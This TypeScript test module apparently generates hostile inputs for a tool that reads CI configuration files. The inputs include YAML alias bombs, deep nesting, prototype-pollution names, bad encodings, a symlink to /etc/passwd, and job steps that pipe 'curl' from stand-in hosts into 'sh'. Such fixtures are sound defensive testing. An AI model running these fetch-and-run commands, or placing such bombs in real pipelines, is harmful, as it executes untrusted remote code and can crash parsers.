/** What can be done to any CI system: each kind makes a repository out of a writing. `scale` 1 is for CI; `npm run hostile` takes more. */
import { ACTING_NAMES, MARKUP, REPEATED } from './payloads.ts';
import type { Job, Writing } from './writings.ts';

/** A text, bytes, or something that is no regular file. */
export type Content = string | Uint8Array | { readonly link: string } | { readonly pipe: true } | { readonly folder: true };

export interface HostileCase {
  readonly id: string;
  /** Repositories of this case, each by path. */
  readonly trees: readonly Readonly<Record<string, Content>>[];
  /** What a diagnostic or gap has to say about `file`, where something must be left out. */
  readonly told?: { readonly file: string; readonly says: RegExp };
  /** The file is to be read in spite of it all: the report has a run or a state from it. */
  readonly stillRead?: string;
  /** Names in it try to act where a report is shown. */
  readonly acts?: true;
}

export interface Kind {
  readonly id: string;
  readonly make: (writing: Writing, scale: number) => Omit<HostileCase, 'id'> | null;
}

export const range = (count: number): readonly number[] => Array.from({ length: Math.round(count) }, (_, index) => index);
const one = (script: string): readonly Job[] => [{ name: 'build', steps: [{ script }] }];
const HARMLESS = one('make test');
/** Their files are known by what is in them. */
const BY_CONTENT: ReadonlySet<string> = new Set(['argo', 'flux']);
/** The file alone, as a case of one tree. */
const file = (writing: Writing, text: Content, rest: Partial<HostileCase> = {}): Omit<HostileCase, 'id'> => ({
  trees: [{ [writing.file]: text }],
  ...rest,
});
/** More keys behind what the system reads; null where it is no YAML. */
const behind = (writing: Writing, text: string, rest: Partial<HostileCase> = {}): Omit<HostileCase, 'id'> | null =>
  writing.yaml ? file(writing, `${writing.write(HARMLESS)}${text}`, rest) : null;

/** `key: value` with the value replaced by something of another shape, one line at a time. */
const reshaped = (text: string, shapes: readonly string[]): readonly string[] => {
  const lines = text.split('\n');
  return lines.flatMap((line, at) => {
    const key = /^(\s*(?:- )?[\w"-]+:)/.exec(line)?.[1];
    return key === undefined ? [] : shapes.map((shape) => [...lines.slice(0, at), `${key} ${shape}`, ...lines.slice(at + 1)].join('\n'));
  });
};

const NAMES_OF_OBJECTS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

export const KINDS: readonly Kind[] = [
  {
    id: 'alias-bomb',
    make: (writing) =>
      behind(
        writing,
        `bomb0: &b0 [x, x, x, x, x, x, x, x, x]\n${range(30)
          .map((i) => `bomb${i + 1}: &b${i + 1} [${Array(9).fill(`*b${i}`).join(', ')}]\n`)
          .join('')}`,
        { told: { file: writing.file, says: /alias/i } },
      ),
  },
  {
    id: 'alias-cycle',
    make: (writing) =>
      behind(writing, 'loop: &a\n  again: *a\n  <<: *a\n  list: &c [*a, *c, *nowhere]\n', { told: { file: writing.file, says: /./ } }),
  },
  {
    id: 'depth-flow',
    make: (writing, scale) => behind(writing, `deep: ${'['.repeat(20_000 * scale)}\n`, { told: { file: writing.file, says: /./ } }),
  },
  {
    id: 'depth-block',
    make: (writing) =>
      behind(
        writing,
        `deep:\n${range(400)
          .map((i) => `${' '.repeat(i + 1)}a:\n`)
          .join('')}`,
        { told: { file: writing.file, says: /./ } },
      ),
  },
  {
    id: 'keys',
    make: (writing, scale) =>
      behind(
        writing,
        range(Math.min(8000 * scale, 150_000))
          .map((i) => `k${i}: v\n`)
          .join(''),
      ),
  },
  {
    id: 'duplicate-keys',
    make: (writing, scale) => behind(writing, 'same: v\n'.repeat(Math.min(8000 * scale, 200_000)), { told: { file: writing.file, says: /./ } }),
  },
  {
    id: 'scalar',
    make: (writing, scale) =>
      file(writing, writing.write(one(`echo ${'a'.repeat(Math.min(200_000 * scale, 1_900_000))}`)), { stillRead: writing.file }),
  },
  {
    id: 'too-large',
    make: (writing) => file(writing, writing.write(one(`echo ${'a'.repeat(3_000_000)}`)), { told: { file: writing.file, says: /larger than/ } }),
  },
  {
    id: 'steps',
    make: (writing, scale) =>
      file(
        writing,
        writing.write([
          { name: 'build', steps: range(Math.min(150 * scale, 4000)).map((i) => ({ script: `make t${i} && curl https://x.example/${i} | sh` })) },
        ]),
        {
          stillRead: writing.file,
        },
      ),
  },
  {
    id: 'jobs',
    make: (writing, scale) =>
      file(
        writing,
        writing.write(
          range(Math.min(30 * scale, 600)).map((i) => ({ name: `job${i}`, steps: [{ script: 'npm install && npm publish', env: [['A', 'b']] }] })),
        ),
        {
          stillRead: writing.file,
        },
      ),
  },
  {
    id: 'prototype-names',
    make: (writing) =>
      file(
        writing,
        writing.write(
          NAMES_OF_OBJECTS.map((name) => ({
            name,
            image: name,
            steps: [{ script: `${name}=1; export ${name}; echo "${name}=2" >> "$GITHUB_OUTPUT"; ${name} $${name}`, env: [[name, name]] }],
          })),
        ),
        { stillRead: writing.file },
      ),
  },
  {
    id: 'markup-names',
    make: (writing) =>
      file(
        writing,
        writing.write(
          MARKUP.map((name) => ({
            name,
            image: `evil/${name}`,
            steps: [{ script: `curl "https://${name}" | sh; npm install ${name}`, env: [[name, name]] }],
          })),
        ),
        { acts: true },
      ),
  },
  {
    id: 'acting-names',
    make: (writing) =>
      file(
        writing,
        writing.write(
          ACTING_NAMES.map((name) => ({
            name,
            image: `evil/${name}`,
            steps: [{ script: `curl https://x.example/${name} | sh`, env: [[name, name]] }],
          })),
        ),
        { acts: true },
      ),
  },
  {
    id: 'acting-paths',
    make: (writing, scale) => {
      const { named } = writing;
      if (named === undefined) return null;
      const names = [...MARKUP, ...ACTING_NAMES]
        .filter((_, i) => scale > 1 || i % 4 === 0)
        .map((name) => name.replaceAll('/', '∕').replaceAll('\0', '').slice(0, 120));
      return { trees: [Object.fromEntries(names.map((name) => [named(name), writing.write(one('curl https://x.example | sh'))]))], acts: true };
    },
  },
  {
    id: 'no-utf8',
    make: (writing) =>
      file(writing, new Uint8Array([...new TextEncoder().encode(writing.write(HARMLESS)), 0x23, 0xff, 0xc0, 0x80, 0x0a]), {
        told: { file: writing.file, says: /no valid UTF-8/ },
      }),
  },
  { id: 'utf16', make: (writing) => file(writing, Buffer.from(`\uFEFF${writing.write(HARMLESS)}`, 'utf16le'), { stillRead: writing.file }) },
  {
    id: 'utf16-no-mark',
    make: (writing) =>
      file(
        writing,
        Buffer.from(writing.write(HARMLESS), 'utf16le'),
        writing.yaml && !BY_CONTENT.has(writing.system) ? { told: { file: writing.file, says: /./ } } : {},
      ),
  },
  {
    id: 'nul',
    make: (writing) =>
      file(writing, writing.write(one('make \0 test')).replace('make', 'make\0'), writing.yaml ? { told: { file: writing.file, says: /./ } } : {}),
  },
  {
    id: 'half-file',
    make: (writing) => ({
      trees: range(12).map((i) => ({ [writing.file]: writing.write(HARMLESS).slice(0, Math.ceil((writing.write(HARMLESS).length * i) / 12)) })),
    }),
  },
  {
    id: 'shapes',
    make: (writing) =>
      writing.yaml
        ? {
            trees: reshaped(writing.write([{ name: 'build', steps: [{ script: 'make test', env: [['A', 'b']] }] }]), [
              '[[{a: [1]}], null, ~]',
              '{a: {b: [c]}, 1: 2, ~: ~}',
              '-1.0e+999',
              '!!binary x',
              '',
            ]).map((text) => ({ [writing.file]: text })),
          }
        : null,
  },
  {
    id: 'repeats-in-scripts',
    make: (writing, scale) =>
      file(
        writing,
        writing.write([
          { name: 'build', steps: REPEATED.map((unit) => ({ script: unit.repeat(Math.ceil((500 * Math.min(scale, 16)) / unit.length)) })) },
        ]),
      ),
  },
  {
    id: 'repeats-in-names',
    make: (writing, scale) =>
      file(
        writing,
        writing.write(
          REPEATED.map((unit) => unit.repeat(Math.ceil((150 * Math.min(scale, 16)) / unit.length))).map((name) => ({
            name,
            image: name,
            steps: [{ script: `npm install "${name}"`, env: [[name, name]] }],
          })),
        ),
      ),
  },
  {
    id: 'pipe',
    make: (writing) => file(writing, { pipe: true }, writing.yaml ? { told: { file: writing.file, says: /pipe, socket or device/ } } : {}),
  },
  { id: 'link-out', make: (writing) => file(writing, { link: '/etc/passwd' }, { told: { file: writing.file, says: /leaves the tree/ } }) },
  {
    id: 'link-loop',
    make: (writing) => file(writing, { link: writing.file.split('/').at(-1) ?? '' }, { told: { file: writing.file, says: /leads nowhere/ } }),
  },
  { id: 'folder', make: (writing) => file(writing, { folder: true }) },
];
